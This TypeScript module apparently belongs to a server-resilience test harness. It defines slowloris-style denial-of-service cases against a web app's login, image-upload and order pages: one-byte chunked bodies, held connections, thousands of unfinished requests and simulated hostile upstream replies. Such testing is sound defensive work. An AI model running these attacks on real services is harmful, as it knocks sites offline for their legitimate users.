import { setTimeout as wait } from "node:timers/promises";
import type { Attack, Target } from "./attack";
import { inOneByteChunks } from "./hostile-replies";
import { photoForm, photoParts } from "./photo-form";
import {
  attackerAddress,
  formHeaders,
  headOf,
  holdAndCut,
  openSocket,
  openSockets,
  repeat,
  statusFor,
  visitorOf,
  writeAll,
} from "./wires";

/** Bodies that come in tiny pieces, or hardly at all. */

const STRIKE_MS = 12_000;
const KB = 1_024;

const chunked = (target: Target, path: string, headers: Record<string, string>) =>
  headOf(target, `POST ${path}`, { ...headers, "Transfer-Encoding": "chunked" });

/** All but the last bytes, so that the body is kept while it waits for more. */
async function sendChunks(target: Target, connections: number, head: string, body: Buffer): Promise<string[]> {
  const sockets = await openSockets(target, connections);
  const wire = Buffer.concat([Buffer.from(head), inOneByteChunks(body)]);
  await Promise.all(sockets.map((socket) => writeAll(socket, wire, STRIKE_MS - 2_000)));
  await holdAndCut(sockets, 2_000);
  return [];
}

async function slowBodies(target: Target, body: Buffer): Promise<string[]> {
  const count = target.connectionsMax;
  const head = headOf(target, "POST /Login", { ...formHeaders(target), "Content-Length": body.length + 1_000 });
  const sockets = await openSockets(target, count);
  const bytes = Buffer.concat([Buffer.from(head), body]);
  await Promise.all(sockets.map((socket) => writeAll(socket, bytes, STRIKE_MS - 4_000)));
  await holdAndCut(sockets, 3_000);
  return [];
}

/** Two forms of each account, each with three photos in chunks of one byte. */
async function prepareUploads(target: Target) {
  const forms = await Promise.all(target.accounts.map((_, index) => photoForm(target, index)));
  const photo = inOneByteChunks(Buffer.alloc(64 * KB - 1, 0x61));
  return async () => {
    const sockets = await Promise.all(
      forms.map(async ({ head, csrf }, index) => {
        const [begin = ""] = photoParts(csrf, [Buffer.alloc(0)])
          .toString("latin1")
          .split("\r\n--x--");
        const own = await openSockets(target, 2, 200 + index);
        const start = `${head({ "Transfer-Encoding": "chunked" })}${begin.length.toString(16)}\r\n${begin}\r\n`;
        await Promise.all(
          own.map((socket) => writeAll(socket, Buffer.concat([Buffer.from(start), photo]), STRIKE_MS - 2_000)),
        );
        return own;
      }),
    );
    await holdAndCut(sockets.flat(), 2_000);
    return [];
  };
}

/** Uploads of one account in pieces of one byte each, again and again; meanwhile visitors come. */
async function dribbleUploads(target: Target): Promise<string[]> {
  const [cookie = ""] = target.accounts;
  const form = formHeaders(target, "multipart/form-data; boundary=x");
  const head = chunked(target, "/UploadImage", { ...form, Cookie: cookie });
  const statuses: unknown[] = [];
  const visitors = repeat({ atATime: 1, forMs: STRIKE_MS }, async (number) => {
    const from = attackerAddress(3_000 + number);
    statuses.push(await statusFor(target, headOf(target, "GET /Login"), { from, deadlineMs: 5_000 }));
    await wait(50);
  });
  const uploads = repeat({ atATime: 4, forMs: STRIKE_MS }, async (number) => {
    const socket = await openSocket(target, attackerAddress(number % 100));
    socket?.setNoDelay(true);
    socket?.write(head);
    for (let pieces = 0; pieces < 400 && socket && !socket.destroyed && socket.bytesRead === 0; pieces += 1) {
      socket.write("1\r\na\r\n");
      await wait(3);
    }
    socket?.destroy();
  });
  await Promise.all([visitors, uploads]);
  const served = statuses.filter((status) => status === 200).length;
  return served < 0.9 * statuses.length ? [`only ${served} of ${statuses.length} visitors saw a page`] : [];
}

/** Everybody asks for what a hostile server sends, and waits for it. */
async function askAll(target: Target, requests: readonly string[], deadlineMs = STRIKE_MS): Promise<string[]> {
  await Promise.all(
    requests.map((request, index) => statusFor(target, request, { from: attackerAddress(index + 1), deadlineMs })),
  );
  await wait(500);
  return [];
}

export const PIECES: readonly Attack[] = [
  {
    name: "pieces-form",
    item: "5",
    sent: "100 connections, each with 64 kB for /Login in chunks of one byte",
    prepare: (target) => {
      const body = Buffer.alloc(64 * KB - 100, 0x61);
      return Promise.resolve(() => sendChunks(target, 100, chunked(target, "/Login", formHeaders(target)), body));
    },
  },
  {
    name: "pieces-thrown-away",
    item: "5",
    sent: "4 connections, each with 1 MB for a page that takes no body in chunks of one byte",
    prepare: (target) => {
      const body = Buffer.alloc(1_000 * KB, 0x61);
      const type = { "Content-Type": "text/plain" };
      return Promise.resolve(() => sendChunks(target, 4, chunked(target, "/Login", type), body));
    },
  },
  {
    name: "pieces-ahead",
    item: "5",
    sent: "100 connections, each with 64 kB in chunks of one byte behind a request for a page that is not read",
    prepare: (target) => {
      const ahead = headOf(target, "GET /Login") + chunked(target, "/Login", formHeaders(target));
      return Promise.resolve(() => sendChunks(target, 100, ahead, Buffer.alloc(64 * KB - 100, 0x61)));
    },
  },
  {
    name: "pieces-upload",
    item: "5",
    sent: "8 accounts, each with two photos for /UploadImage in chunks of one byte",
    accounts: 8,
    prepare: prepareUploads,
  },
  {
    name: "uploads-dribbled",
    item: "13",
    sent: "one account uploads on 4 connections, byte by byte, again and again",
    accounts: 1,
    prepare: (target) => Promise.resolve(() => dribbleUploads(target)),
  },
  {
    name: "slow-bodies",
    item: "5",
    sent: "5,000 connections (1,000 through a proxy) with 63 kB for /Login that do not end",
    prepare: (target) => Promise.resolve(() => slowBodies(target, Buffer.alloc(63 * KB, 0x61))),
  },
  {
    name: "pieces-picture",
    item: "5",
    sent: "a picture host sends 7.5 MB in chunks of one byte",
    prepare: (target) => {
      const paths = (target.pictures.pieces ?? []).slice(0, 3);
      return Promise.resolve(() =>
        askAll(
          target,
          paths.map((path) => headOf(target, `GET ${path}`)),
        ),
      );
    },
  },
  {
    name: "pieces-upstream",
    item: "5",
    sent: "the upstream sends 7.5 MB of orders in chunks of one byte, to 3 accounts",
    accounts: 3,
    hostility: { server: "upstream", call: "getOrderList", reply: "one-byte chunks" },
    buys: "after",
    prepare: (target) =>
      Promise.resolve(async () => {
        await Promise.all(
          target.accounts.map((cookie, index) =>
            visitorOf(target, cookie, attackerAddress(index + 1))
              .open("/MyOrder")
              .catch((error: unknown) => error),
          ),
        );
        return [];
      }),
  },
];
